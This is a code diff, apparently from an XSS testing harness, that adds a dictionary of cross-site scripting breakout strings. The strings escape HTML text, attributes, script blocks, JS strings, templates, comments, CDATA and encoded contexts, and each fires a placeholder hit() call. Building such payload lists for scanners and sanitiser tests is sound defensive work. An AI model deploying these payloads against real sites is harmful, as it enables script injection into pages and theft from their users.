@@ -73,3 +73,25 @@ PAYLOADS |= {
     "half a tag": "x<img src=x onerror=hit() ",
     "a zero byte": "<scr\x00ipt>hit()</script>",
 }
+
+# Words in places where a page has words, attributes, or data for a script: each ends one of those, and runs.
+BREAKOUTS = {
+    "text": "<img src=x onerror=hit()>",
+    "double quotes": '"><img src=x onerror=hit()>',
+    "single quotes": "'><img src=x onerror=hit()>",
+    "attribute": '" autofocus tabindex=0 onfocus=hit() x="',
+    "attribute, single": "' autofocus tabindex=0 onfocus=hit() x='",
+    "script": "</script><script>hit()</script>",
+    "string of a script": '";hit();//\';hit();//\\";hit();//',
+    "template string": "${hit()}`;hit();`",
+    "title": "</title><svg onload=hit()>",
+    "textarea": "</textarea></select><svg onload=hit()>",
+    "style": "</style></noscript></template><img src=x onerror=hit()>",
+    "comment": "--><img src=x onerror=hit()><!--",
+    "CDATA": "]]><img src=x onerror=hit()>",
+    "read twice": "&lt;img src=x onerror=hit()&gt;",
+    "read three times": "&amp;lt;img src=x onerror=hit()&amp;gt;",
+    "escaped for a script": "\\u003cimg src=x onerror=hit()\\u003e",
+    "address": "javascript:hit()//<img src=x onerror=hit()>",
+    "template of a server": "{% load static %}{{ 7|add:7 }}<svg onload=hit()>",
+}
